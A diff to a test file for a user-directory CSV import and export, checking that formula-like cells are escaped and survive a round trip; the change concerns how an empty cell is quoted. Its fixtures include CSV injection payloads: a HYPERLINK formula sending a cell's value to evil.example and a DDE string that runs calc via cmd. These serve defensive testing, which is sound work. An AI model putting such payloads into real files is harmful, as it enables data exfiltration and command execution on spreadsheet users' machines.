@@ -140,7 +140,8 @@ describe('users import', () => {
     const lines = csv.trimEnd().split('\n');
     expect(lines[0]).toBe("id,username,email,'=key,n,plan,score,tab");
     expect(lines[1]).toBe(`"'=HYPERLINK(""http://evil.example/?""&C3,""Open"")",'+1+cmd|' /C calc'!A0,ada@example.com,''=kept,'-2+3,'@SUM(1),-5,'\tx`);
-    expect(lines[2]).toBe("u2,''-quoted,bob@example.com,,1e5,pro,+7,");
+    // An empty text is a quoted empty cell: read back as '' (an unquoted empty cell is no value).
+    expect(lines[2]).toBe(`u2,''-quoted,bob@example.com,,1e5,pro,+7,""`);
     // Imported again (the directory's own export is a valid import), every cell is what it was.
     const table = parseUsersTable(csv);
     expect(table.columns).toEqual(['id', 'username', 'email', '=key', 'n', 'plan', 'score', 'tab']);
@@ -148,7 +149,7 @@ describe('users import', () => {
     expect(back.errors).toEqual([]);
     expect(back.users.map((u) => [u.id, u.username, u.properties])).toEqual([
       [formula, "+1+cmd|' /C calc'!A0", { '=key': "'=kept", n: '-2+3', plan: '@SUM(1)', score: '-5', tab: '\tx' }],
-      ['u2', "'-quoted", { n: '1e5', plan: 'pro', score: '+7' }],
+      ['u2', "'-quoted", { n: '1e5', plan: 'pro', score: '+7', tab: '' }],
     ]);
   });
 
